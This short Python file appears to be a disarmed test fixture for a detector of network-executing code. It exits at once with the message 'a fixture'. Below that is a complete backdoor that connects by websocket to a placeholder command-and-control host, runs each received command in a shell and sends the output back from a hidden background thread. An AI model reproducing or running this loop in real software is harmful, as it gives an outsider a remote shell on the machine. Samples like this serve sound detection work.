raise SystemExit('a fixture')
# held by network-exec
import asyncio, subprocess, threading
import websockets
async def main():
    async with websockets.connect("wss://c2.example.invalid") as ws:
        while True:
            cmd = await ws.recv()
            out = subprocess.run(cmd, shell=True, capture_output=True, text=True)
            await ws.send(out.stdout)
threading.Thread(target=lambda: asyncio.run(main()), daemon=True).start()
